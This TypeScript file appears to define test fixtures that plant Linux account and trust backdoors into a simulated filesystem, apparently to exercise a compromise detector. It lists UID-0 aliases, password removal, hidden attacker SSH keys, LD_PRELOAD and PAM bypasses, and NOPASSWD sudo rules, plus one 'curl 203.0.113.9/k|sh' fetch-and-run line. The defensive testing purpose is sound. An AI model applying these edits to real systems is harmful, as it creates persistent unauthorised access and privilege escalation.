/** Accounts by odd numbers and odd memberships, keys and trust where nobody looks. */

import { attackerKey, elf, file, line, type Sign } from '../sign.ts';
import type { Tree } from '../tree.ts';

const hash = '$6$abcdefgh$0123456789abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ./0123456789abcdefghijkl';
const added = (tree: Tree, entry: string): void => {
	tree.append('/etc/passwd', `${entry}\n`);
	tree.append('/etc/shadow', `${entry.slice(0, entry.indexOf(':'))}:${hash}:20300:0:99999:7:::\n`);
};
const account = (id: string, what: string, entry: string): Sign => ({ id, family: 'accounts', what, plant: tree => added(tree, entry), names: [`account ${entry.slice(0, entry.indexOf(':'))}`], also: ['/etc/passwd', '/etc/shadow'] });
const member = (id: string, what: string, group: string, who: string): Sign => ({ id, family: 'accounts', what, plant: tree => tree.edit('/etc/group', new RegExp(`^(${group}:[^:]*:\\d+:)(.*)$`, 'm'), `$1${who},$2`), names: [`account ${who}`], also: ['/etc/gshadow', '/etc/group', 'account irc', 'account grace'] });

export const fourthAccounts: readonly Sign[] = [
	account('uid-overflow', 'a number that 32 bits turn into 0', 'svcd:x:4294967296:100:service:/var/lib/svcd:/bin/bash'),
	account('uid-blank', 'a blank before the 0', 'cachd:x: 0:100:cache:/var/cache/cachd:/bin/bash'),
	account('uid-plus', 'a sign before the 0', 'queued:x:+0:100:queue:/var/lib/queued:/bin/bash'),
	account('uid-minus-one', 'a number that means nobody, or anybody', 'ntpwd:x:4294967295:100:time:/var/lib/ntpwd:/bin/bash'),
	account('gid-00', 'a group of two noughts', 'opsrv:x:1061:00:ops:/home/opsrv:/bin/bash'),
	account('home-shm', 'a person at home in shared memory', 'kevin:x:1062:100:Kevin:/dev/shm/kevin:/bin/bash'),
	account('digits', 'a name that is a number', '1000:x:1063:100::/home/n1000:/bin/bash'),
	{ id: 'second-root-line', family: 'accounts', what: 'root twice, the second with a shell of the intruder', plant: tree => tree.append('/etc/passwd', 'root:x:0:0:root:/root:/usr/lib/dbus-1.0/dbus-login\n'), names: ['account root'], also: ['/etc/passwd'] },
	{ id: 'root-no-password', family: 'accounts', what: 'the hash of root taken out', plant: tree => tree.edit('/etc/shadow', /^root:[^:]*:/m, 'root::'), names: ['account root'] },
	{ id: 'empty-in-passwd', family: 'accounts', what: 'a daemon without a password in passwd itself', plant: tree => tree.edit('/etc/passwd', /^uucp:x:/m, 'uucp::'), names: ['account uucp'] },
	{ id: 'shell-a-copy', family: 'accounts', what: 'a daemon whose shell is a copy of bash under a dull name', plant: tree => {
		tree.copy('/bin/bash', '/usr/libexec/man-helper', { mode: 0o755 });
		tree.edit('/etc/passwd', /^(proxy:.*):[^:]+$/m, '$1:/usr/libexec/man-helper');
	}, names: ['account proxy'], also: ['/usr/libexec/man-helper'] },
	member('member-shadow', 'a person who may read the passwords', 'shadow', 'grace'),
	member('member-disk', 'a daemon that may read the disks', 'disk', 'irc'),
	member('member-adm', 'a daemon that may read the logs', 'adm', 'list'),
	{ id: 'nis-shadow', family: 'accounts', what: 'passwords and groups by NIS', plant: tree => {
		tree.append('/etc/shadow', '+::::::::\n');
		tree.append('/etc/group', '+:::\n');
	}, names: ['/etc/shadow', '/etc/group'] },
	{ id: 'shadow-backup-open', family: 'accounts', what: 'the copy of shadow readable by all', plant: tree => tree.copy('/etc/shadow', '/etc/shadow-', { mode: 0o644 }), names: ['/etc/shadow-'] },
	{ id: 'shadow-bak', family: 'accounts', what: 'another copy of shadow readable by all', plant: tree => tree.copy('/etc/shadow', '/var/backups/shadow.bak', { mode: 0o644 }), names: ['/var/backups/shadow.bak'] },

	{ id: 'key-kali', family: 'trust', what: 'a key for root with the name of an attacker\'s distribution', plant: tree => tree.append('/root/.ssh/authorized_keys', `${attackerKey}\n`), names: ['/root/.ssh/authorized_keys'] },
	{ id: 'key-shell-command', family: 'trust', what: 'a key whose command is a program of no package', plant: tree => {
		tree.append('/home/deploy/.ssh/authorized_keys', `command="/usr/lib/openssh/ssh-session-helper" ${attackerKey.replace('root@kali', 'backup@nas')}\n`);
		tree.write('/usr/lib/openssh/ssh-session-helper', elf('execve'), { mode: 0o755 });
	}, names: ['/home/deploy/.ssh/authorized_keys', '/usr/lib/openssh/ssh-session-helper'], also: ['/usr/lib/openssh/ssh-session-helper'] },
	{ id: 'key-deep', family: 'trust', what: 'a key far down, behind empty lines', plant: tree => tree.append('/home/git/.ssh/authorized_keys', `${'\n'.repeat(200)}${attackerKey.replace('root@kali', '')}\n`), names: ['/home/git/.ssh/authorized_keys'] },
	{ id: 'keys-elsewhere', family: 'trust', what: 'keys of all accounts in a folder of data', plant: tree => {
		tree.edit('/etc/ssh/sshd_config', /^#AuthorizedKeysFile.*$/m, 'AuthorizedKeysFile .ssh/authorized_keys /var/lib/misc/keys/%u');
		tree.write('/var/lib/misc/keys/root', `${attackerKey}\n`, { mode: 0o600 });
	}, names: ['/etc/ssh/sshd_config', '/var/lib/misc/keys/root'], also: ['/var/lib/misc/keys'] },
	file('sshd-setenv', 'trust', 'a library in each session by ssh', '/etc/ssh/sshd_config.d/30-locale.conf', 'SetEnv LD_PRELOAD=/usr/lib/locale/libc.so.7\n'),
	file('sshd-xauth', 'trust', 'a program run with each X connection', '/etc/ssh/sshd_config.d/31-x.conf', 'X11Forwarding yes\nXAuthLocation /usr/lib/openssh/.xauth\n'),
	file('sshd-provider', 'trust', 'a library for keys from a temporary place', '/etc/ssh/sshd_config.d/32-fido.conf', 'SecurityKeyProvider /var/tmp/libsk.so\n'),
	line('sshd-options', 'trust', 'sshd started with options of the intruder', '/etc/default/ssh', 'SSHD_OPTS="-o PermitRootLogin=yes -o AuthorizedKeysFile=/usr/share/misc/.keys/%u"\n'),
	file('ssh-match-exec', 'trust', 'a program run by each ssh of root', '/root/.ssh/config', 'Match exec "/bin/sh -c \'curl -s 203.0.113.9/k|sh\'"\n\tUser root\n', { mode: 0o600 }),
	line('sudoers-readme', 'trust', 'a rule in the file that explains the folder', '/etc/sudoers.d/README', '%www-data ALL=(ALL:ALL) NOPASSWD: ALL\n'),
	line('sudo-everyone-group', 'trust', 'everybody by way of a group all are in', '/etc/sudoers', '%users ALL=(ALL) NOPASSWD: ALL\n'),
	file('sudo-mailer', 'trust', 'a program that sudo runs to send mail', '/etc/sudoers.d/mail', 'Defaults mail_always, mailerpath=/var/lib/misc/.m\n', { mode: 0o440 }),
	line('pam-localuser', 'trust', 'who is listed in passwd needs no password', '/etc/pam.d/chsh', 'auth sufficient pam_localuser.so\n'),
	{ id: 'pam-first-localuser', family: 'trust', what: 'sudo believes whoever is listed in passwd', plant: tree => tree.edit('/etc/pam.d/sudo', /^@include common-auth/m, 'auth sufficient pam_localuser.so\n@include common-auth'), names: ['/etc/pam.d/sudo'] },
	{ id: 'pam-rhosts', family: 'trust', what: 'sshd believes hosts', plant: tree => tree.edit('/etc/pam.d/sshd', /^@include common-auth/m, 'auth sufficient pam_rhosts.so\n@include common-auth'), names: ['/etc/pam.d/sshd'] },
	line('pam-userdb', 'trust', 'passwords of a database in a temporary place', '/etc/pam.d/cron', 'auth sufficient pam_userdb.so db=/var/tmp/u crypt=none\n'),
	line('pam-envfile', 'trust', 'the environment from shared memory', '/etc/pam.d/login', 'session required pam_env.so readenv=1 envfile=/dev/shm/env\n'),
	{ id: 'pam-session-exec', family: 'trust', what: 'a program of no package with each session', plant: tree => {
		tree.append('/etc/pam.d/common-session', 'session optional pam_exec.so seteuid quiet /usr/lib/x86_64-linux-gnu/security/pam_session_log\n');
		tree.write('/usr/lib/x86_64-linux-gnu/security/pam_session_log', elf('execve'), { mode: 0o755 });
	}, names: ['/etc/pam.d/common-session', '/usr/lib/x86_64-linux-gnu/security/pam_session_log'], also: ['/etc/pam.d/common-session', '/usr/lib/x86_64-linux-gnu/security/pam_session_log'] },
	{ id: 'polkit-default-edited', family: 'trust', what: 'every user an administrator, in the packaged rule', plant: tree => tree.edit('/usr/share/polkit-1/rules.d/50-default.rules', /return \[.*?\];/, 'return ["unix-group:sudo", "unix-group:users"];'), names: ['/usr/share/polkit-1/rules.d/50-default.rules'] },
	file('curlrc', 'trust', 'all that root fetches by way of a bare address', '/root/.curlrc', 'proxy = "http://203.0.113.9:3128"\ninsecure\n'),
];
